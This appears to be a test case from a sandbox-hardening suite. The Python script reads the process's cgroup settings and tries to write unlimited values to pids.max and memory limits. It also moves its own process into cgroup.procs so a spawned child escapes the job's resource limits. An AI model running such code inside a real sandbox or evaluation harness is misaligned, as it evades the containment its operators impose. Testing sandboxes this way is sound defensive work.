# attack: read and write the cgroup filesystem (limits, procs) to lift the job's limits
# expect-passed: yes
import glob
import os
from multiprocessing import Process


def run_in_child(target, args):
    try:
        with open("/proc/self/cgroup") as f:
            print("/proc/self/cgroup", f.read())
    except OSError as exc:
        print("/proc/self/cgroup", exc)
    print("/sys/fs/cgroup entries:", glob.glob("/sys/fs/cgroup/*"))
    writes = {
        "pids.max": "max",
        "memory.limit_in_bytes": "-1",
        "memory.max": "max",
        "cgroup.procs": str(os.getpid()),
        "tasks": str(os.getpid()),
    }
    for pattern in ("/sys/fs/cgroup/*/", "/sys/fs/cgroup/*/proctor/*/", "/sys/fs/cgroup/"):
        for directory in glob.glob(pattern):
            for name, value in writes.items():
                try:
                    with open(os.path.join(directory, name), "w") as f:
                        f.write(value)
                    print("wrote", directory, name)
                except OSError:
                    pass
    child = Process(target=target, args=args)
    child.start()
    child.join()
    return child.exitcode
